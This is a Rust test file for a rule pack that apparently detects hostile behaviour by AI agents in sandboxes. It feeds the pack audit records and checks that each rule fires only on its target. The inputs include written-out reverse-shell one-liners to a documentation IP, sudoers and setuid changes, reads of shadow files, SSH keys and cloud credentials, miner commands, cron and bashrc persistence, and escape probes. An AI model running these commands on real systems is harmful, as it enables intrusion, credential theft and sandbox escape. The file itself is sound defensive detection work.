//! The built-in rule pack: for every rule, records that trigger it (and only the rules
//! expected) and a benign sequence of ordinary agent work that must raise nothing. The
//! records have the shapes kiln's audit log writes (docs/audit.md).

mod common;

use common::{only, Feed};
use kiln_rules::RuleSet;
use serde_json::json;

#[test]
fn the_pack_loads_and_every_rule_is_tested_here() {
    let set = RuleSet::default_pack();
    let src = concat!(include_str!("pack.rs"), include_str!("pack_more.rs"));
    for r in &set.rules {
        assert!(
            src.contains(&format!("fn {}()", r.name)),
            "rule {} has no test in tests/pack.rs",
            r.name
        );
    }
    assert!(set.rules.len() >= 28);
}

#[test]
fn reverse_shell_dev_tcp() {
    let mut f = Feed::new();
    only(
        f.cmd("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"),
        "reverse_shell_dev_tcp",
    );
    assert!(f.cmd("ls /dev/ && echo tcp").is_empty());
}

#[test]
fn reverse_shell_netcat_exec() {
    let mut f = Feed::new();
    only(
        f.cmd("nc -e /bin/sh 198.51.100.7 4444"),
        "reverse_shell_netcat_exec",
    );
    only(
        f.cmd("/usr/bin/nc 198.51.100.7 4444 -e /bin/bash"),
        "reverse_shell_netcat_exec",
    );
    only(
        f.cmd("ncat --exec /bin/sh 198.51.100.7 9"),
        "reverse_shell_netcat_exec",
    );
    only(
        f.cmd("socat tcp:198.51.100.7:9 exec:/bin/sh,pty"),
        "reverse_shell_netcat_exec",
    );
    only(
        f.execve(300, "bash", &["/bin/nc", "-e", "/bin/sh", "h", "1"]),
        "reverse_shell_netcat_exec",
    );
    assert!(f.cmd("rsync -e ssh a b").is_empty());
    assert!(f.cmd("nc -z 127.0.0.1 8000").is_empty());
    assert!(f.cmd("grep -e foo file.txt").is_empty());
}

#[test]
fn reverse_shell_script_socket_dup() {
    let mut f = Feed::new();
    only(
        f.cmd("python3 -c 'import socket,os;s=socket.socket();s.connect((\"198.51.100.7\",9));os.dup2(s.fileno(),0)'"),
        "reverse_shell_script_socket_dup",
    );
    assert!(f
        .cmd("python3 -c 'import socket; print(socket.gethostname())'")
        .is_empty());
}

#[test]
fn shell_connects_out() {
    let mut f = Feed::new();
    let connect = |f: &mut Feed, pid: i64, caller: &str, addr: &str| {
        f.rec(5, "syscall", json!({"call": "connect", "pid": pid, "process": caller, "fd": 3, "address": addr, "result": 0}))
    };
    f.execve(50, "bash", &["/bin/bash", "-c", "echo"]);
    only(
        connect(&mut f, 50, "bash", "198.51.100.7:4444"),
        "shell_connects_out",
    );
    assert!(connect(&mut f, 50, "bash", "unix:/var/run/nscd/socket").is_empty());
    f.execve(51, "bash", &["/usr/bin/python3", "x.py"]);
    assert!(connect(&mut f, 51, "python3", "198.51.100.7:443").is_empty());
}

#[test]
fn reverse_shell_stdio_socket() {
    let mut f = Feed::new();
    let dup = |f: &mut Feed, pid: i64, old: i64, new: i64, socket: Option<&str>| {
        let mut b = json!({"call": "dup2", "pid": pid, "process": "python3", "oldfd": old,
                           "newfd": new, "fdPath": "socket:[12]", "result": new});
        if let Some(s) = socket {
            b["socket"] = json!(s);
        }
        f.rec(5, "syscall", b)
    };
    only(
        dup(&mut f, 60, 3, 0, Some("198.51.100.7:4444")),
        "reverse_shell_stdio_socket",
    );
    only(
        dup(&mut f, 60, 3, 2, Some("198.51.100.7:4444")),
        "reverse_shell_stdio_socket",
    );
    // A Unix socket pair on a child's stdio (libuv's spawn), a connection moved elsewhere.
    assert!(dup(&mut f, 61, 5, 1, None).is_empty());
    assert!(dup(&mut f, 62, 3, 7, Some("198.51.100.7:443")).is_empty());
}

#[test]
fn write_auth_files() {
    let mut f = Feed::new();
    only(
        f.cmd("echo 'user ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers"),
        "write_auth_files",
    );
    only(f.file("write", "/etc/sudoers.d/agent"), "write_auth_files");
    only(
        f.open(60, "python3", "/etc/passwd", 0o2101),
        "write_auth_files",
    );
    assert!(
        f.open(61, "python3", "/etc/passwd", 0o2000000).is_empty(),
        "reading passwd is ordinary"
    );
    assert!(f
        .cmd("getent passwd user && cat /etc/passwd > /tmp/copy")
        .is_empty());
}

#[test]
fn setuid_chmod() {
    let mut f = Feed::new();
    only(f.cmd("chmod u+s /tmp/sh"), "setuid_chmod");
    only(f.cmd("chmod 4755 /tmp/sh"), "setuid_chmod");
    assert!(f.cmd("chmod 755 build/app && chmod +x run.sh").is_empty());
}

#[test]
fn setuid_chmod_syscall() {
    // chmod(2) and kin as gVisor's raw trace points give them (no process, the mode decoded).
    let mut f = Feed::new();
    let raw = |f: &mut Feed, call: &str, mode: &str, errno: Option<i64>| {
        let mut b = json!({"call": call, "sysno": 90, "args": [0, 0, 0, 0, 0, 0], "mode": mode,
                           "pid": null, "process": "", "result": 0});
        if let Some(e) = errno {
            b["errno"] = json!(e);
            b["result"] = json!(-1);
        }
        f.rec(5, "syscall", b)
    };
    only(raw(&mut f, "chmod", "4755", None), "setuid_chmod_syscall");
    only(
        raw(&mut f, "fchmodat", "2755", None),
        "setuid_chmod_syscall",
    );
    only(raw(&mut f, "fchmod", "6711", None), "setuid_chmod_syscall");
    assert!(raw(&mut f, "chmod", "755", None).is_empty());
    assert!(
        raw(&mut f, "fchmod", "1777", None).is_empty(),
        "the sticky bit is not setid"
    );
    assert!(raw(&mut f, "chmod", "4755", Some(1)).is_empty(), "refused");
}

#[test]
fn read_shadow() {
    let mut f = Feed::new();
    only(f.cmd("cat /etc/shadow"), "read_shadow");
    only(f.file("read", "/etc/shadow"), "read_shadow");
    only(f.open(70, "cat", "/etc/shadow", 0), "read_shadow");
    assert!(f.file("stat", "/etc/shadow").is_empty());
    assert!(f.cmd("cat /etc/hostname").is_empty());
}

#[test]
fn ssh_private_key_access() {
    let mut f = Feed::new();
    only(f.cmd("cat ~/.ssh/id_rsa"), "ssh_private_key_access");
    only(
        f.file("read", "/home/user/.ssh/id_ed25519"),
        "ssh_private_key_access",
    );
    assert!(f
        .cmd("ssh-keygen -t ed25519 -N '' -f ~/.ssh/id_ed25519")
        .is_empty());
    assert!(f.cmd("cat ~/.ssh/id_rsa.pub").is_empty());
    assert!(f.file("read", "/home/user/.ssh/known_hosts").is_empty());
    // The ssh tools' own opens (syscall auditing): ssh-keygen writing a new key and reading
    // it back, ssh (git over ssh) using one; and a key named to ssh.
    assert!(f
        .open(90, "ssh-keygen", "/home/user/.ssh/id_ed25519", 0o1101)
        .is_empty());
    assert!(f
        .open(90, "ssh-keygen", "/home/user/.ssh/id_ed25519", 0)
        .is_empty());
    assert!(f.open(91, "ssh", "/home/user/.ssh/id_rsa", 0).is_empty());
    assert!(f
        .execve(
            92,
            "git",
            &["ssh", "-i", "/home/user/.ssh/id_deploy", "git@host"]
        )
        .is_empty());
    assert!(f
        .cmd("GIT_SSH_COMMAND='ssh -i ~/.ssh/id_deploy' git clone git@host:r.git")
        .is_empty());
    only(
        f.open(93, "python3", "/home/user/.ssh/id_rsa", 0),
        "ssh_private_key_access",
    );
}

#[test]
fn cloud_credentials_access() {
    let mut f = Feed::new();
    only(f.cmd("cat ~/.aws/credentials"), "cloud_credentials_access");
    only(
        f.file("read", "/home/user/.git-credentials"),
        "cloud_credentials_access",
    );
    only(
        f.open(
            80,
            "python3",
            "/root/.config/gcloud/application_default_credentials.json",
            0,
        ),
        "cloud_credentials_access",
    );
    // requests looks for ~/.netrc on every call; a failed open is not an access.
    let miss = f.rec(
        5,
        "syscall",
        json!({"call": "openat", "pid": 81, "process": "python3",
        "path": "/home/user/.netrc", "flags": 0, "result": -2, "errno": 2}),
    );
    assert!(miss.is_empty());
    assert!(f.cmd("aws --version").is_empty());
}

#[test]
fn other_process_environ() {
    let mut f = Feed::new();
    only(f.cmd("cat /proc/1/environ"), "other_process_environ");
    only(
        f.open(90, "python3", "/proc/17/environ", 0),
        "other_process_environ",
    );
    assert!(f.cmd("cat /proc/self/environ | tr '\\0' '\\n'").is_empty());
    assert!(f.open(91, "python3", "/proc/self/environ", 0).is_empty());
    // A process reading its own environment through its pid (psutil, some runtimes), or a
    // shell's own through $$: not another process's.
    assert!(f.open(92, "python3", "/proc/92/environ", 0).is_empty());
    assert!(f.cmd("tr '\\0' '\\n' < /proc/$$/environ").is_empty());
    only(
        f.open(92, "python3", "/proc/921/environ", 0),
        "other_process_environ",
    );
    // A file read through the agent names no process: another's.
    only(f.file("read", "/proc/7/environ"), "other_process_environ");
}

#[test]
fn mining_stratum() {
    let mut f = Feed::new();
    let fired = f.cmd("./x -o stratum+tcp://pool.example.test:3333 -u wallet");
    only(fired, "mining_stratum");
    assert!(f.cmd("echo tcp stratum").is_empty());
}

#[test]
fn miner_binary() {
    let mut f = Feed::new();
    only(f.cmd("./xmrig --donate-level 1"), "miner_binary");
    only(
        f.execve(95, "bash", &["/opt/m/cpuminer", "--benchmark"]),
        "miner_binary",
    );
    assert!(f.cmd("python3 -m pip install numpy").is_empty());
}

#[test]
fn mining_pool_dns() {
    let mut f = Feed::new();
    only(f.dns(10, "pool.supportxmr.com", "A"), "mining_pool_dns");
    assert!(f.dns(10, "deb.example.test", "A").is_empty());
}

#[test]
fn mining_pool_port() {
    let mut f = Feed::new();
    only(
        f.net(10, "connect", "198.51.100.9:14444", json!({})),
        "mining_pool_port",
    );
    assert!(f
        .net(10, "connect", "198.51.100.9:443", json!({}))
        .is_empty());
}

#[test]
fn network_scan() {
    let mut f = Feed::new();
    let mut fired = Vec::new();
    for port in 1..=25 {
        let err =
            json!({"error": "Connection refused (os error 111)", "bytesIn": 0, "bytesOut": 0});
        fired.extend(f.net(100, "close", &format!("198.51.100.9:{port}"), err));
    }
    assert_eq!(fired, vec!["network_scan".to_string()]);
    // Retries of one refused destination are not a scan.
    let mut g = Feed::new();
    for _ in 0..40 {
        let err =
            json!({"error": "Connection refused (os error 111)", "bytesIn": 0, "bytesOut": 0});
        assert!(g.net(100, "close", "198.51.100.9:8000", err).is_empty());
    }
    // Nor refusals spread over minutes.
    let mut h = Feed::new();
    for port in 1..=25 {
        assert!(h
            .net(
                5_000,
                "deny",
                &format!("10.1.2.3:{port}"),
                json!({"rule": "always denied 10.0.0.0/8"})
            )
            .is_empty());
    }
}

#[test]
fn icmp_sweep() {
    let mut f = Feed::new();
    let mut fired = Vec::new();
    for host in 1..=20 {
        fired.extend(f.rec(50, "net", json!({"event": "connect", "proto": "icmp", "src": "169.254.0.21",
            "dst": format!("198.51.100.{host}"), "name": null, "rule": "default", "icmpType": 8, "icmpCode": 0, "icmpId": 7})));
    }
    assert_eq!(fired, vec!["icmp_sweep".to_string()]);
    let mut g = Feed::new();
    for _ in 0..30 {
        assert!(g
            .rec(
                1000,
                "net",
                json!({"event": "connect", "proto": "icmp", "src": "169.254.0.21",
            "dst": "198.51.100.1", "name": null, "rule": "default", "icmpType": 8})
            )
            .is_empty());
    }
}

#[test]
fn denied_egress_burst() {
    let mut f = Feed::new();
    let mut fired = Vec::new();
    for _ in 0..50 {
        fired.extend(f.net(200, "deny", "10.0.0.5:80", json!({"rule": "internet off"})));
    }
    assert_eq!(fired, vec!["denied_egress_burst".to_string()]);
    let mut g = Feed::new();
    for _ in 0..20 {
        assert!(g
            .net(200, "deny", "10.0.0.5:80", json!({"rule": "internet off"}))
            .is_empty());
    }
}

#[test]
fn dns_tunnel_labels() {
    let mut f = Feed::new();
    let mut fired = Vec::new();
    for i in 0..5 {
        let label = format!("{i}f3a9c1e7b2d48a6e0c95f7b3d1a2e8c4b6f09d7a3e5c1b8f2");
        fired.extend(f.dns(500, &format!("{label}.t.example.test"), "A"));
    }
    assert_eq!(fired, vec!["dns_tunnel_labels".to_string()]);
    let mut g = Feed::new();
    for name in [
        "files.pythonhosted.example.test",
        "registry.example.test",
        "my-load-balancer-1234567890.elb.example.test",
        "www.example.test",
        "a1b2c3.cdn.example.test",
        "_http._tcp.deb.example.test",
    ] {
        assert!(g.dns(100, name, "A").is_empty());
    }
}

#[test]
fn dns_txt_flood() {
    let mut f = Feed::new();
    let mut fired = Vec::new();
    for i in 0..30 {
        fired.extend(f.dns(100, &format!("q{i}.example.test"), "TXT"));
    }
    assert_eq!(fired, vec!["dns_txt_flood".to_string()]);
    let mut g = Feed::new();
    for i in 0..10 {
        assert!(g
            .dns(100, &format!("_dmarc{i}.example.test"), "TXT")
            .is_empty());
    }
}

#[test]
fn repeated_resource_kills() {
    let mut f = Feed::new();
    let kill = |f: &mut Feed, e: &str| {
        f.rec(
            60_000,
            "lifecycle",
            json!({"event": e, "detail": "command killed"}),
        )
    };
    assert!(kill(&mut f, "oom").is_empty());
    assert!(kill(&mut f, "pids-limit").is_empty());
    only(kill(&mut f, "oom"), "repeated_resource_kills");
    let mut g = Feed::new();
    for _ in 0..3 {
        assert!(g
            .rec(
                3_600_000,
                "lifecycle",
                json!({"event": "oom", "detail": "x"})
            )
            .is_empty());
    }
}

#[test]
fn escape_probe_syscalls() {
    let mut f = Feed::new();
    let call = |f: &mut Feed, name: &str, errno: Option<i64>| {
        let mut b = json!({"call": name, "sysno": 0, "args": [0, 0, 0, 0, 0, 0], "pid": 130,
                           "process": "python3", "result": 0});
        if let Some(e) = errno {
            b["errno"] = json!(e);
            b["result"] = json!(-1);
        }
        f.rec(5, "syscall", b)
    };
    only(call(&mut f, "mount", Some(1)), "escape_probe_syscalls");
    only(call(&mut f, "unshare", Some(1)), "escape_probe_syscalls");
    only(call(&mut f, "ptrace", None), "escape_probe_syscalls");
    only(
        call(&mut f, "finit_module", Some(38)),
        "escape_probe_syscalls",
    );
    assert!(call(&mut f, "openat", None).is_empty());
    assert!(call(&mut f, "dup2", None).is_empty());
}

#[test]
fn escape_probe_files() {
    let mut f = Feed::new();
    only(
        f.open(120, "sh", "/proc/sysrq-trigger", 0o1),
        "escape_probe_files",
    );
    let denied = f.rec(
        5,
        "syscall",
        json!({"call": "openat", "pid": 121, "process": "python3",
        "path": "/dev/kvm", "flags": 0o2, "result": -1, "errno": 13}),
    );
    only(denied, "escape_probe_files");
    only(
        f.open(122, "python3", "/proc/1/mem", 0o2),
        "escape_probe_files",
    );
    only(
        f.file("write", "/sys/fs/cgroup/cgroup.procs"),
        "escape_probe_files",
    );
    for p in [
        "/proc/self/status",
        "/proc/meminfo",
        "/sys/fs/cgroup/memory.max",
        "/proc/1/cmdline",
    ] {
        assert!(f.open(123, "python3", p, 0o2000000).is_empty(), "{p}");
    }
}

#[test]
fn persistence_file_write() {
    let mut f = Feed::new();
    only(
        f.file("write", "/home/user/.bashrc"),
        "persistence_file_write",
    );
    only(
        f.open(99, "python3", "/etc/cron.d/job", 0o101),
        "persistence_file_write",
    );
    assert!(f.file("read", "/home/user/.bashrc").is_empty());
    assert!(f
        .file("write", "/home/user/project/.bashrc.example")
        .is_empty());
}

#[test]
fn persistence_cmdline() {
    let mut f = Feed::new();
    only(
        f.cmd("echo '* * * * * /tmp/x' | crontab -"),
        "persistence_cmdline",
    );
    only(
        f.cmd("echo 'curl x | sh' >> ~/.bashrc"),
        "persistence_cmdline",
    );
    assert!(f.cmd("crontab -l").is_empty());
    let interactive = f.rec(
        10,
        "process",
        json!({"event": "start", "cmd": "/bin/bash",
        "args": ["-l", "-c", "echo alias ll=ls >> ~/.bashrc"], "pid": 5, "pty": true}),
    );
    assert!(
        interactive.is_empty(),
        "an interactive terminal is the user's own doing"
    );
}

#[test]
fn ordinary_agent_work_raises_nothing() {
    let mut f = Feed::new();
    let mut fired = Vec::new();
    for c in [
        "python3 -m pip install --index-url http://pypi.example.test/simple requests",
        "npm install left-pad",
        "git clone https://git.example.test/repo.git && cd repo && make -j2",
        "gcc -O2 -o hello hello.c && ./hello",
        "python3 -m http.server 8000 --bind 0.0.0.0",
        "python3 -c 'import matplotlib; matplotlib.use(\"Agg\"); import matplotlib.pyplot as plt; plt.plot([1,2]); plt.savefig(\"a.png\")'",
        "git init && git add -A && git commit -m x",
        "ls -la /home/user && cat /etc/os-release && env | sort",
        "sudo apt-get install -y jq",
        "curl -fsS http://web.example.test/ -o /tmp/index.html",
        "chmod +x ./configure && ./configure --prefix=/usr/local",
        "tar xzf pkg.tar.gz && cd pkg && python3 setup.py build",
    ] {
        fired.extend(f.cmd(c));
    }
    for (op, p) in [
        ("write", "/home/user/main.py"),
        ("read", "/home/user/main.py"),
        ("list", "/home/user"),
        ("mkdir", "/home/user/src"),
        ("write", "/tmp/data.csv"),
        ("remove", "/tmp/data.csv"),
    ] {
        fired.extend(f.file(op, p));
    }
    for i in 0..40 {
        fired.extend(f.dns(200, &format!("cdn{i}.example.test"), "A"));
        fired.extend(f.dns(0, &format!("cdn{i}.example.test"), "AAAA"));
        fired.extend(f.net(
            50,
            "connect",
            &format!("198.51.100.{}:443", i % 5 + 1),
            json!({"name": "cdn.example.test"}),
        ));
        fired.extend(f.net(
            50,
            "close",
            &format!("198.51.100.{}:443", i % 5 + 1),
            json!({"bytesOut": 900, "bytesIn": 120000, "durationMs": 80}),
        ));
    }
    // A python process's ordinary opens and a compiler's writes (syscall auditing).
    f.execve(400, "bash", &["/usr/bin/python3", "main.py"]);
    for p in [
        "/usr/lib/python3.11/os.py",
        "/etc/passwd",
        "/etc/hostname",
        "/home/user/main.py",
    ] {
        fired.extend(f.open(400, "python3", p, 0o2000000));
    }
    fired.extend(f.open(401, "cc1", "/tmp/ccA.s", 0o1101));
    fired.extend(f.rec(5, "syscall", json!({"call": "connect", "pid": 400, "process": "python3", "fd": 3, "address": "198.51.100.1:443", "result": 0})));
    fired.extend(f.rec(
        5,
        "lifecycle",
        json!({"event": "created", "detail": "template base"}),
    ));
    fired.extend(f.rec(5, "api", json!({"key": "k", "method": "POST", "route": "/sandboxes/{sandboxID}/pause", "status": 204, "sandbox": "sbx"})));
    assert!(fired.is_empty(), "benign work raised {fired:?}");
}
